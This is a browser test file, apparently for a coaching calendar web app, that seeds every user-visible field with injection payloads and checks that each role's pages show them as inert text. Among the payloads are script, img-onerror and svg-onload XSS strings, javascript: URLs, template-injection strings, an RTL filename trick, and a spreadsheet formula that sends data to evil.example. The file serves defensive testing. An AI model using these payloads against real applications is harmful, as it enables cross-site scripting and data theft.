import { join } from 'node:path';
import type { Dialog, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { UserRole } from '../../server/db/schema.ts';
import { DIAGNOSTIC_IDS } from '../../shared/diagnostic.ts';
import { PAGES } from '../../web/src/pages.ts';
import { teamCalendar } from '../support/team-calendar.ts';
import { readFixture, type TestUser } from '../support/test-app.ts';
import { HAS_CHROMIUM, SCREENSHOTS, startBrowserApp, type BrowserApp } from './browser-harness.ts';

/**
 * Everything one person types and another sees, filled with payloads: the calendar
 * (test/fixtures/hostile-content.ics: titles, descriptions, places, organiser and attendee names,
 * categories, the calendar's name), the leader's name, the calendar (source) and file names of the
 * import, a rule's name and values, notes, the coach's and HR's names, the cohort's name, the
 * diagnostic's note. Each role then opens every page it has. A payload that ran would set
 * window.__xss; one parsed as HTML would leave an element behind; CSP blocks would be reported as
 * page errors by the harness. The payloads must instead read as the text they are.
 */

const NOW = '2026-03-20T12:00:00Z';
const IMG = '<img src=x onerror="window.__xss=1">';
const SCRIPT = '<script>window.__xss=1</script>';
const SVG = '"><svg onload=window.__xss=1>';
const JS_URL = 'javascript:window.__xss=1//';
const TEMPLATE = '{{7*7}} ${7*7}';
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
const RTL = '\u202Efdp.exe';
const LONG = `Strategy${'x'.repeat(400)}`;

const NAMES = {
  leader: `${IMG} Lee ${RTL} ${FORMULA}`.slice(0, 200),
  coach: `${SCRIPT} Casey ${TEMPLATE}`,
  hr: `${SVG} Hana ${JS_URL}`,
  admin: `${IMG} Ada`,
  cohort: `${SCRIPT}${SVG} Cohort ${TEMPLATE} ${RTL}`,
  source: `${SVG} work ${TEMPLATE}`,
  fileName: `${IMG}${RTL}.ics`,
  rule: `${IMG} rule ${FORMULA}`,
  ruleValue: '<svg onload=window.__xss=1>',
  leaderNote: `${SCRIPT} from the leader ${JS_URL} ${LONG}`,
  coachNote: `${IMG} from the coach ${FORMULA} ${TEMPLATE}`,
  diagnosticNote: `${SVG} diagnostic ${TEMPLATE} ${RTL}`,
} as const;

/** The titles in the fixture, as the events page must show them. */
const TITLES = [
  `${IMG} Strategy review`,
  `${SCRIPT} Weekly ops status update`,
  `${SVG} Talent review`,
  `${JS_URL} Budget planning`,
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> Strategy offsite',
  `${FORMULA} Customer call`,
  `Quarterly ${RTL} review`,
  LONG,
];

/** What each role must see literally on a page (the rest of its pages are only checked for safety). */
const EXPECTED_TEXT: Record<string, Partial<Record<string, string[]>>> = {
  leader: {
    events: [...TITLES, `${JS_URL}Room 4`, '<b onmouseover="window.__xss=1">Board room</b>', NAMES.rule, NAMES.ruleValue],
    rules: [NAMES.rule, NAMES.ruleValue],
    import: [NAMES.source, NAMES.fileName],
    notes: [NAMES.leaderNote, NAMES.coachNote, NAMES.coach],
    print: [NAMES.leader, NAMES.coachNote],
    sharing: [NAMES.coach, NAMES.hr, NAMES.cohort],
  },
  coach: {
    clients: [NAMES.leader],
    events: TITLES,
    rules: [NAMES.rule, NAMES.ruleValue],
    notes: [NAMES.leader, NAMES.leaderNote, NAMES.coachNote],
    print: [NAMES.leader, NAMES.leaderNote],
  },
  hr: {
    compliance: [NAMES.leader, NAMES.cohort],
    'cohort-charts': [NAMES.cohort],
    cohorts: [NAMES.cohort, NAMES.leader],
    diagnostic: [NAMES.diagnosticNote],
  },
  admin: {
    users: [NAMES.leader, NAMES.coach, NAMES.hr, NAMES.admin],
  },
};

interface Inertness {
  xss: unknown;
  injected: string[];
}

describe.skipIf(!HAS_CHROMIUM)('hostile content renders as text for every role', () => {
  let app: BrowserApp;
  const users = {} as Record<UserRole, TestUser>;
  const dialogs: string[] = [];

  beforeAll(async () => {
    app = await startBrowserApp(NOW);
    users.leader = await app.addUser({ email: 'hostile.leader@acme.example', name: NAMES.leader, role: 'leader', timeZone: 'Europe/Berlin' });
    users.coach = await app.addUser({ email: 'casey@coaching.example', name: NAMES.coach, role: 'coach' });
    users.hr = await app.addUser({ email: 'hana@acme.example', name: NAMES.hr, role: 'hr' });
    users.admin = await app.addUser({ email: 'ada@acme.example', name: NAMES.admin, role: 'admin' });
    const leader = users.leader.http;
    const base = `/api/leaders/${users.leader.leaderId}`;
    const ok = async (request: Promise<{ status: number; body: any }>, status = 200) => {
      const res = await request;
      expect(res.status, JSON.stringify(res.body)).toBe(status);
      return res.body;
    };

    await ok(leader.post(`${base}/imports`).query({ source: NAMES.source, fileName: NAMES.fileName }).set('Content-Type', 'text/calendar').send(readFixture('hostile-content.ics')), 201);
    await ok(
      leader.post(`${base}/rules`).send({
        name: NAMES.rule,
        match: 'any',
        category: 'strategic',
        conditions: [
          { field: 'title', op: 'contains', value: NAMES.ruleValue },
          { field: 'description', op: 'contains', value: TEMPLATE },
        ],
      }),
      201,
    );
    // The coach, allowed to change categories and rules, so their pages show every control.
    const invited = await ok(leader.post('/api/grants').send({ coachEmail: 'casey@coaching.example', canEdit: true }), 201);
    await ok(users.coach.http.post(`/api/grants/${invited.grant.id}/accept`).send({ code: invited.inviteCode }));
    await ok(leader.post(`${base}/notes`).send({ body: NAMES.leaderNote, grantId: invited.grant.id }), 201);
    await ok(users.coach.http.post(`${base}/notes`).send({ body: NAMES.coachNote }), 201);

    // HR's aggregates need five consenting leaders: the hostile one and five plain ones (as in hr-journey).
    const cohort = (await ok(users.hr.http.post('/api/cohorts').send({ name: NAMES.cohort }), 201)).cohort as { id: number };
    const members = [users.leader];
    for (let i = 0; i < 5; i++) {
      const who = await app.addUser({ email: `plain${i}@acme.example`, name: `Plain ${i}`, role: 'leader', timeZone: 'Europe/Berlin' });
      await ok(who.http.post(`/api/leaders/${who.leaderId}/imports`).set('Content-Type', 'text/calendar').send(teamCalendar(`p${i}`, '2026-01-04', 4 + i, 20 - i, i % 4)), 201);
      members.push(who);
    }
    await ok(users.hr.http.post(`/api/cohorts/${cohort.id}/invitations`).send({ emails: members.map((m) => m.user.email) }), 201);
    for (const who of members) {
      const list = await ok(who.http.get('/api/memberships'));
      await ok(who.http.post(`/api/memberships/${list.memberships[0].id}/accept`).send({ shareCoaching: true }));
    }
    const answers = Object.fromEntries(DIAGNOSTIC_IDS.map((id, i) => [id, i % 2 === 0]));
    await ok(users.hr.http.post('/api/diagnostic/answers').send({ answers, note: NAMES.diagnosticNote }), 201);
  }, 120_000);

  afterAll(async () => {
    await app?.close();
  });

  /** Nothing from a payload ran or became an element. */
  async function inertness(page: Page): Promise<Inertness> {
    return page.evaluate(() => ({
      xss: (window as unknown as { __xss?: unknown }).__xss,
      injected: [
        ...document.querySelectorAll('img[src="x"], svg[onload], script:not([src]), b[onmouseover], iframe, object, embed, [onerror], [onload], [onmouseover], a[href^="javascript:" i]'),
      ].map((element) => element.outerHTML.slice(0, 80)),
    }));
  }

  /** Opens a page by its route and waits until its data has arrived and been drawn. */
  async function open(page: Page, id: string): Promise<void> {
    await page.goto(`${app.baseUrl}/#/${id}`);
    await page.waitForLoadState('networkidle');
    await expect.poll(() => page.locator('main .notice-loading').count(), { timeout: 10_000 }).toBe(0);
    await page.waitForLoadState('networkidle');
  }

  for (const role of ['leader', 'coach', 'hr', 'admin'] as const) {
    test(`${role}: every page shows the payloads as text and runs none`, async () => {
      const page = await app.newPage();
      const onDialog = (dialog: Dialog) => {
        dialogs.push(`${role}: ${dialog.message()}`);
        void dialog.dismiss();
      };
      page.on('dialog', onDialog);
      await app.signIn(page, users[role].user.email);
      const pages = PAGES.filter((p) => p.roles.includes(role)).map((p) => p.id);
      expect(pages.length).toBeGreaterThan(0);
      for (const id of pages) {
        await open(page, id);
        expect(await page.locator('main .notice-error').allTextContents(), `${role} ${id}`).toEqual([]);
        const text = (await page.locator('main').textContent()) ?? '';
        for (const expected of EXPECTED_TEXT[role]![id] ?? []) expect(text, `${role} ${id}: ${expected.slice(0, 60)}`).toContain(expected);
        expect(await inertness(page), `${role} ${id}`).toEqual({ xss: undefined, injected: [] });
        // The header (account name, client picker) too.
        const header = (await page.locator('header.app-header').textContent()) ?? '';
        expect(header, `${role} ${id} header`).toContain(NAMES[role]);
        if (role === 'coach') expect(header, `coach ${id} client picker`).toContain(NAMES.leader);
      }
      await page.screenshot({ path: join(SCREENSHOTS, `hostile-${role}-last-page.png`), fullPage: true });
      expect(await inertness(page)).toEqual({ xss: undefined, injected: [] });
      await page.close();
    });
  }

  test('the coach opens an event to make a rule from it: the title is quoted as text in the editor', async () => {
    const page = await app.newPage();
    await app.signIn(page, users.coach.user.email);
    await open(page, 'events');
    const row = page.locator('#events-table tbody tr', { hasText: 'Talent review' }).first();
    await row.getByRole('button', { name: /^Make a rule from/ }).click();
    await expect.poll(() => page.locator('.editor-slot').textContent()).toContain(`${SVG} Talent review`);
    await page.waitForLoadState('networkidle');
    expect(await inertness(page)).toEqual({ xss: undefined, injected: [] });
    await page.close();
  });

  test('no dialog opened, and no page logged an error or broke the Content-Security-Policy', () => {
    expect(dialogs).toEqual([]);
    expect(app.pageErrors).toEqual([]);
    expect(app.rejectedRequests).toEqual([]);
  });
});
